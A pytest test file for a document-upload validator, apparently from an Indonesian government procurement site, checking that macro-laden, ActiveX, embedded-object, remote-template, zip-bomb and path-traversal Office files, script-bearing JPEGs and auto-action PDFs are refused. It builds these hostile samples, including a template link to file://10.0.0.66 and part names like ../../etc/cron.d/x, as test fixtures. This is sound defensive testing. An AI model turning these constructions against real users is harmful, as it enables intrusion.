def test_a_pdf_made_by_weasyprint_with_links_is_accepted():
    from weasyprint import HTML

    content = HTML(
        string="<h1>Surat</h1><p>Lihat <a href='https://lpse.salatiga.go.id'>LPSE</a> dan "
        "<a href='#b'>lampiran</a>.</p>"
        "<p id='b' style='page-break-before: always'>Lampiran</p><p>" + "Isi surat. " * 2000 + "</p>"
    ).write_pdf()

    assert check_upload(upload(content, "surat.pdf")).content_type == PDF


def test_an_ordinary_objstm_pdf_and_ordinary_streams_are_accepted():
    assert check_upload(upload(objstm_pdf(b"/OpenAction [4 0 R /Fit]"))).content_type == PDF
    contents = stream(zlib.compress(b"BT /F1 12 Tf 72 712 Td (Surat) Tj ET"), b"/Filter /FlateDecode")
    assert check_upload(upload(raw_pdf(page=b"/Contents 4 0 R", objects=(contents,)))).content_type == PDF


def test_a_jpeg_with_ordinary_metadata_is_accepted():
    assert (
        check_upload(upload(jpeg_with(comment=b"Scanned by KONICA MINOLTA <bizhub>"), "ktp.jpg")).content_type == JPEG
    )


# --- office documents (OOXML)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_bytes(
    *, main: str = WORD_MAIN, overrides: str = "", document_rels: str = "", entries: dict | None = None
) -> bytes:
    """A Word document as Word writes one: content types, package relationships, the main part and its own."""
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/>{overrides}</Types>'
        ),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Berita acara</w:t></w:r></w:p></w:body></w:document>"
        ),
        "word/_rels/document.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{document_rels}</Relationships>"
        ),
        **(entries or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["Paket", "Pagu"])
    workbook.active.append(["Rehab gedung", 150_000_000])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


OFFICE = (PDF, JPEG, PNG, uploads.DOCX, uploads.XLSX, uploads.PPTX)


def test_ordinary_office_documents_are_accepted_where_allowed():
    hyperlink = (
        f'<Relationship Id="rId9" Type="{RELS}/hyperlink" Target="https://lpse.salatiga.go.id" TargetMode="External"/>'
    )

    docx = check_upload(upload(docx_bytes(document_rels=hyperlink), "berita acara.docx"), allowed=OFFICE)
    xlsx = check_upload(upload(xlsx_bytes(), "rup.xlsx"), allowed=OFFICE)

    assert (docx.content_type, docx.name) == (uploads.DOCX, "berita acara.docx")
    assert (xlsx.content_type, xlsx.name) == (uploads.XLSX, "rup.xlsx")


def test_office_documents_stay_refused_where_not_allowed():
    error = refused(upload(docx_bytes(), "berita acara.docx"))

    assert error.messages == ["This file is a Word document, not PDF, JPG or PNG."]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (
            docx_bytes(
                main="application/vnd.ms-word.document.macroEnabled.main+xml",
                overrides='<Override PartName="/word/vbaProject.bin" '
                'ContentType="application/vnd.ms-office.vbaProject"/>',
                document_rels='<Relationship Id="rId8" Target="vbaProject.bin" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>',
                entries={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
            ),
            "laporan.docm",
        ),
        # the macros, with the content types of a plain document and the name .docx
        (docx_bytes(entries={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}), "laporan.docx"),
    ],
    ids=["docm", "disguised"],
)
def test_an_office_document_with_macros_is_refused(content, name):
    error = refused(upload(content, name), allowed=OFFICE)

    assert error.messages == ["The DOCX file contains macros; save it as .docx without macros and upload it again."]
    assert error.code == "office_macros"


def test_an_office_document_with_activex_is_refused():
    content = docx_bytes(
        overrides='<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
        document_rels=f'<Relationship Id="rId7" Type="{RELS}/control" Target="activeX/activeX1.xml"/>',
        entries={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"},
    )

    error = refused(upload(content, "formulir.docx"), allowed=OFFICE)

    assert error.messages == ["The DOCX file contains ActiveX controls; upload a document without them."]
    assert error.code == "office_activex"


@pytest.mark.parametrize(
    "entries",
    [
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
        {"word/media/lampiran.zip": zip_bytes()},  # an archive inside
        {"word/media/image1.png": docx_bytes()},  # a document inside, named as an image
    ],
    ids=["ole", "zip", "disguised-zip"],
)
def test_an_office_document_with_embedded_objects_or_archives_is_refused(entries):
    error = refused(upload(docx_bytes(entries=entries), "x.docx"), allowed=OFFICE)

    assert error.messages == ["The DOCX file contains embedded objects or files; upload a document without them."]
    assert error.code == "office_embedded"


@pytest.mark.parametrize(
    ("where", "relationship"),
    [
        # template injection: Word fetches the template, from a network share or a web server, when it opens
        ("word/_rels/settings.xml.rels", "attachedTemplate"),
        ("word/_rels/document.xml.rels", "oleObject"),
        ("word/_rels/document.xml.rels", "image"),  # a linked picture, fetched on opening
    ],
)
def test_an_office_document_loading_outside_files_is_refused(where, relationship):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELS}/{relationship}" Target="file://10.0.0.66/share/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )

    error = refused(upload(docx_bytes(entries={where: rels}), "x.docx"), allowed=OFFICE)

    assert error.messages == [
        "The DOCX file links to an outside file or template that is loaded when it is opened; "
        "upload a document without such links."
    ]
    assert error.code == "office_external"


def test_an_office_zip_bomb_is_refused():
    entries = {"word/document2.xml": bytes(50 * MB)}

    error = refused(upload(docx_bytes(entries=entries), "x.docx"), allowed=OFFICE)

    assert error.code == "office_bomb"


def test_an_office_document_expanding_past_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(uploads.office, "OOXML_MAX_RATIO", 10**6)  # each part compressed plausibly, the sum too large
    entries = {f"word/part{i}.xml": bytes(10 * MB) for i in range(3)}

    error = refused(upload(docx_bytes(entries=entries), "x.docx"), allowed=OFFICE, max_bytes=MB)

    assert error.messages == ["The DOCX file expands to more than 20 MB when opened (a compression bomb)."]
    assert error.code == "office_bomb"


def test_an_office_document_with_too_many_parts_is_refused(monkeypatch):
    monkeypatch.setattr(uploads.office, "OOXML_MAX_ENTRIES", 5)

    error = refused(upload(docx_bytes(entries={f"word/p{i}.xml": "<a/>" for i in range(5)}), "x.docx"), allowed=OFFICE)

    assert error.code == "office_too_many_parts"


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "word\\..\\..\\x.xml", "C:/x.xml"])
def test_an_office_document_with_a_path_in_a_part_name_is_refused(name):
    error = refused(upload(docx_bytes(entries={name: "<a/>"}), "x.docx"), allowed=OFFICE)

    assert error.messages == ["The DOCX file contains a part with an unsafe name; upload a document saved by Office."]
    assert error.code == "office_unsafe_name"


def test_a_plain_zip_stays_an_archive_where_office_documents_are_allowed():
    error = refused(upload(zip_bytes(), "x.docx"), allowed=OFFICE)

    assert error.code == "archive"


def test_a_legacy_office_document_is_refused_with_how_to_save_it():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

    error = refused(upload(ole, "laporan.doc"), allowed=OFFICE)

    assert error.messages == [
        "This file is an old-format Office document (.doc, .xls or .ppt); save it as .docx, .xlsx or .pptx "
        "and upload it again."
    ]
    assert error.code == "office_legacy"


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (
            raw_pdf(catalog=b"/OpenAction " + AUTOMATIC_ACTIONS["URI"]),
            "surat.pdf",
            "Berkas PDF ini membuka alamat web dengan sendirinya saat dilihat; unggah PDF tanpa aksi tersebut.",
        ),
        (
            jpeg_with(comment=b"<script>alert(1)</script>"),
            "ktp.jpg",
            "Berkas JPG ini memuat kode halaman web (HTML); simpan ulang dari program pembuatnya, "
            "lalu unggah hasilnya.",
        ),
        (
            docx_bytes(entries={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)}),
            "laporan.docm",
            "Berkas DOCX ini memuat makro; simpan sebagai .docx tanpa makro, lalu unggah lagi.",
        ),
    ],
)
def test_refusals_read_in_indonesian(content, name, message):
    with translation.override("id"):
        error = refused(upload(content, name), allowed=OFFICE)

    assert error.messages == [message]
